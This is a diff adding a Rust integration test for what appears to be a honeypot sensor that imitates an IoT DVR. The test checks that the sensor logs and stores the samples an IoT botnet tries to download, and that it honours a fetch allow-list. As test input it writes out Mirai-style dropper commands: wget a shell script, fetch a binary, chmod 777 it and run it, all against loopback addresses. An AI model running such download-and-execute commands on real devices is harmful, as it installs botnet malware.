@@ -11,6 +11,7 @@
 
 mod util;
 
+use sha2::{Digest, Sha256};
 use util::mirai::{loader, Method};
 use util::{source, Sensor};
 
@@ -232,4 +233,142 @@ fn samples_quota_is_an_event_not_a_crash() {
         .map(|v| v["destfile"].as_str().unwrap())
         .collect();
     assert_eq!(stored, ["/tmp/a"]);
+}
+
+/// A loopback HTTP server (the only kind of host a test lets the sensor fetch from) on
+/// each of `listeners`: answers from `routes` and reports every `address path` it saw.
+fn http_server(
+    listeners: Vec<std::net::TcpListener>,
+    routes: Vec<(String, Vec<u8>)>,
+) -> std::sync::mpsc::Receiver<String> {
+    use std::io::{BufRead, BufReader, Write};
+    let (seen_tx, seen_rx) = std::sync::mpsc::channel();
+    let routes = std::sync::Arc::new(routes);
+    for listener in listeners {
+        let (seen_tx, routes) = (seen_tx.clone(), routes.clone());
+        std::thread::spawn(move || {
+            let local = listener.local_addr().unwrap().ip();
+            for stream in listener.incoming() {
+                let Ok(mut stream) = stream else { return };
+                let mut reader = BufReader::new(stream.try_clone().unwrap());
+                let mut request = String::new();
+                reader.read_line(&mut request).unwrap();
+                loop {
+                    let mut header = String::new();
+                    if reader.read_line(&mut header).unwrap() == 0 || header == "\r\n" {
+                        break;
+                    }
+                }
+                let path = request.split(' ').nth(1).unwrap_or("").to_string();
+                let _ = seen_tx.send(format!("{local} {path}"));
+                let response = match routes.iter().find(|(p, _)| *p == path) {
+                    Some((_, body)) if body.starts_with(b"REDIRECT ") => {
+                        let to = String::from_utf8_lossy(&body[9..]).into_owned();
+                        format!("HTTP/1.0 302 Found\r\nLocation: {to}\r\n\r\n").into_bytes()
+                    }
+                    Some((_, body)) => {
+                        let mut r =
+                            format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", body.len())
+                                .into_bytes();
+                        r.extend_from_slice(body);
+                        r
+                    }
+                    None => b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n".to_vec(),
+                };
+                stream.write_all(&response).unwrap();
+            }
+        });
+    }
+    seen_rx
+}
+
+#[test]
+fn fetching_downloads_what_the_bot_asks_for_and_its_second_stage() {
+    let binary = synthetic_elf((1, 1, 40), 2000);
+    let sha: String = Sha256::digest(&binary)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect();
+    // The same port on 127.0.0.1 (allowed) and 127.0.0.2 (loopback, but not allowed).
+    let allowed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = allowed.local_addr().unwrap().port();
+    let denied = std::net::TcpListener::bind(("127.0.0.2", port)).unwrap();
+    let base = format!("http://127.0.0.1:{port}");
+    let script = format!("cd /var\nwget {base}/go -O dvr\nchmod 777 dvr\n./dvr telnet.arm\n");
+    let requests = http_server(
+        vec![allowed, denied],
+        vec![
+            ("/bins.sh".to_string(), script.into_bytes()),
+            (
+                "/go".to_string(),
+                format!("REDIRECT {base}/x.arm7").into_bytes(),
+            ),
+            ("/x.arm7".to_string(), binary.clone()),
+        ],
+    );
+    let config = "profile = \"xiongmai-dvr\"\n\
+                  [fetch]\n\
+                  enabled = true\n\
+                  allow = [\"127.0.0.1/32\"]\n\
+                  timeout = \"10s\"\n";
+    let sensor = Sensor::start_with(config);
+    let mut client = sensor.connect();
+    client.login();
+    let denied_url = format!("http://127.0.0.2:{port}/denied.sh");
+    client.send(
+        format!("cd /var; wget {denied_url}; wget {base}/bins.sh; sh bins.sh\r\n").as_bytes(),
+    );
+    let out = client.read_until(b"listening tun0", std::time::Duration::from_secs(20));
+    let text = String::from_utf8_lossy(&out);
+    assert!(
+        text.contains("wget: can't connect to remote host (127.0.0.2): Connection refused"),
+        "{text}"
+    );
+    assert!(text.contains("saving to 'bins.sh'"), "{text}");
+    assert!(text.contains("saving to 'dvr'"), "{text}");
+    client.send(b"exit\r\n");
+    let events = sensor.wait_for_events("the session closed", |e| {
+        e.iter().any(|v| v["eventid"] == "cowrie.session.closed")
+    });
+    let urls: Vec<&str> = events
+        .iter()
+        .filter(|v| v["eventid"] == "busybait.download.request")
+        .map(|v| v["url"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        urls,
+        [
+            denied_url.clone(),
+            format!("{base}/bins.sh"),
+            format!("{base}/go")
+        ]
+    );
+    let files: Vec<(&str, &str, &str)> = events
+        .iter()
+        .filter(|v| v["eventid"] == "cowrie.session.file_download")
+        .map(|v| {
+            (
+                v["destfile"].as_str().unwrap(),
+                v["url"].as_str().unwrap_or(""),
+                v["shasum"].as_str().unwrap(),
+            )
+        })
+        .collect();
+    let go = format!("{base}/go");
+    assert!(files.contains(&("/var/dvr", &go, &sha)), "{files:?}");
+    assert!(
+        files
+            .iter()
+            .any(|f| f.0 == "/var/bins.sh" && f.1 == format!("{base}/bins.sh")),
+        "{files:?}"
+    );
+    let stored = sensor.data_dir.path().join("samples").join(&sha);
+    assert_eq!(std::fs::read(stored).unwrap(), binary);
+    drop(sensor);
+    let seen: Vec<String> = requests.try_iter().collect();
+    assert_eq!(
+        seen,
+        ["127.0.0.1 /bins.sh", "127.0.0.1 /go", "127.0.0.1 /x.arm7"],
+        "the denied address was never contacted"
+    );
 }
